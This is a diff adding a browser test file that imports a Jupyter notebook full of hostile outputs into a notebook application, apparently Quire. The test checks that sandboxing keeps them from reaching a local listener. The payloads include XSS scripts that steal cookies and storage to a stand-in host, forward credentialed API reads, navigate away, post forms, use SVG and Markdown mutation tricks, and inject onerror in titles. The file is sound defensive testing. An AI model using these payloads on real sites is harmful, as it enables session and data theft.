@@ -1,0 +1,84 @@
+import { once } from "node:events";
+import { createServer } from "node:http";
+import { afterAll, beforeAll, expect, test } from "vitest";
+import { world } from "./world.js";
+
+const { person, open, server } = world();
+
+/** What reached the listener: whatever a hostile output gets out of the page goes there. */
+const reached: string[] = [];
+const listener = createServer((request, answer) => {
+  reached.push(`${request.method ?? ""} ${request.url ?? ""}`);
+  answer.writeHead(200, { "Access-Control-Allow-Origin": "*" }).end("<h1>Sign in to Quire</h1>");
+});
+let outside = "";
+
+beforeAll(async () => {
+  listener.listen(0, "127.0.0.1");
+  await once(listener, "listening");
+  const address = listener.address();
+  outside = address !== null && typeof address === "object" ? `http://127.0.0.1:${address.port}` : "";
+});
+afterAll(() => void listener.close());
+
+/** Each hostile thing, as a MIME bundle. OUT stands for the listener, APP for the application. */
+const hostile: Readonly<Record<string, Readonly<Record<string, string>>>> = {
+  "a script that writes to the page above": { "text/html": "<script>try { parent.document.title = 'owned'; top.owned = 1 } catch (e) { document.body.append('kept out') }</script>" },
+  "a script that reads cookies and storage": {
+    "text/html": "<script>let got = ''; try { got += document.cookie } catch {} try { got += JSON.stringify(localStorage) } catch {} new Image().src = 'OUT/cookies?' + encodeURIComponent(got)</script>",
+  },
+  "a script that asks the API": { "text/html": "<script>fetch('APP/api/notebooks', {credentials: 'include'}).then(r => r.text()).then(t => fetch('OUT/api?' + t)).catch(() => {}); fetch('OUT/fetch').catch(() => {})</script>" },
+  "an image of another host": { "text/html": "<img src='OUT/image'><img src=x onerror=\"new Image().src='OUT/onerror'\">" },
+  "a frame that goes elsewhere": { "text/html": "<script>location.href = 'OUT/location'</script>" },
+  "a refresh that goes elsewhere": { "text/html": "<meta http-equiv='refresh' content='0;url=OUT/refresh'>" },
+  "a script that moves the page": { "text/html": "<script>try { top.location = 'OUT/top' } catch {} try { parent.location.replace('OUT/parent') } catch {}</script>" },
+  "a window that opens": { "text/html": "<script>open('OUT/open')</script><a id=a href='OUT/link' target=_blank>x</a><script>document.getElementById('a').click()</script>" },
+  "a form that posts": { "text/html": "<form id=f action='OUT/form' method=post><input name=a value=b></form><script>f.submit()</script>" },
+  "a form that posts to the application": { "text/html": "<form id=g action='APP/api/logout' method=post></form><script>g.submit()</script>" },
+  "a frame within": { "text/html": "<iframe src='OUT/frame'></iframe><object data='OUT/object'></object><embed src='OUT/embed'>" },
+  "a style that reaches out": { "text/html": "<style>@import 'OUT/import'; body { background: url(OUT/background) }</style><link rel=stylesheet href='OUT/sheet'><link rel=prefetch href='OUT/prefetch'>" },
+  "a socket": { "text/html": "<script>try { new WebSocket('OUT/socket'.replace('http', 'ws')) } catch {} try { navigator.sendBeacon('OUT/beacon', 'x') } catch {} try { new EventSource('OUT/events') } catch {}</script>" },
+  "a worker": { "text/html": "<script>try { new Worker(URL.createObjectURL(new Blob([\"fetch('OUT/worker')\"]))) } catch {}</script>" },
+  "a peer connection": { "text/html": "<script>try { new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:9'}]}).createOffer() } catch {}</script>" },
+  "messages to the application": { "text/html": "<script>for (const m of [{kind: 'link', href: 'javascript:top.owned=1'}, {kind: 'height', height: 1e9}, {kind: 'command'}, 'x', null]) parent.postMessage(m, '*')</script>" },
+  "an SVG with a script": { "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' width='10' height='10' onload=\"fetch('OUT/svg')\"><script>fetch('OUT/svgscript')</script><image href='OUT/svgimage'/></svg>" },
+  "Markdown with active parts": {
+    "text/markdown": "<script>fetch('OUT/md')</script> <img src=x onerror=\"fetch('OUT/mdimg')\"> ![x](OUT/mdimage) [x](javascript:fetch('OUT/mdlink')) <iframe src='OUT/mdframe'></iframe> <style>*{background:url(OUT/mdstyle)}</style> <form action='OUT/mdform'><button>x</button></form> <math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=fetch('OUT/mutation')&gt;\">",
+  },
+  JavaScript: { "application/javascript": "fetch('OUT/js'); try { top.owned = 1 } catch {}" },
+  LaTeX: { "text/latex": "$\\href{javascript:fetch('OUT/latex')}{x} \\includegraphics{OUT/latexgraphics}$" },
+};
+
+const names = Object.keys(hostile);
+
+/** Returns a file whose one cell has the outputs, and a title and names that are hostile too. */
+function file(bundles: readonly Readonly<Record<string, string>>[]): string {
+  const text = JSON.stringify(
+    bundles.map((data) => ({ output_type: "display_data", metadata: {}, data })),
+  ).replaceAll("OUT", outside).replaceAll("APP", server().url);
+  const outputs: unknown = JSON.parse(text);
+  const cell = { cell_type: "code", id: "c", metadata: { "<img src=x onerror=alert(1)>": 1 }, execution_count: 1, source: "", outputs };
+  return JSON.stringify({ nbformat: 4, nbformat_minor: 5, metadata: { title: "<img src=x onerror=alert(1)>" }, cells: [cell] });
+}
+
+test.each(names)("%s reaches nothing", async (name) => {
+  reached.length = 0;
+  const bundle = hostile[name];
+  if (!bundle) throw new Error("no such case");
+  const made = await server().fetch(`/api/notebooks/import?format=ipynb&title=${encodeURIComponent("<img src=x onerror=top.owned=1>")}`, { method: "POST", body: file([bundle]) });
+  expect(made.status, await made.clone().text()).toBe(201);
+  const { id }: { id: string } = await made.json();
+  const ada = await person({ ignoreHTTPSErrors: false });
+  const hers = await open(ada, id);
+  const before = hers.page.url();
+  // The output has its say: frames are shown, scripts have run, and what they asked for had the time to arrive.
+  await hers.page.waitForTimeout(1_500);
+  expect(reached).toEqual([]);
+  expect(hers.page.url()).toBe(before);
+  expect(ada.context.pages()).toHaveLength(1);
+  expect(await hers.page.evaluate(() => "owned" in globalThis)).toBe(false);
+  expect(await hers.page.title()).not.toBe("owned");
+  const me = await hers.page.evaluate(() => fetch("/api/me").then((answer) => answer.status));
+  expect(me, "still signed in").toBe(200);
+  ada.faults.length = 0; // what the policy kept from happening is what this test wants
+});
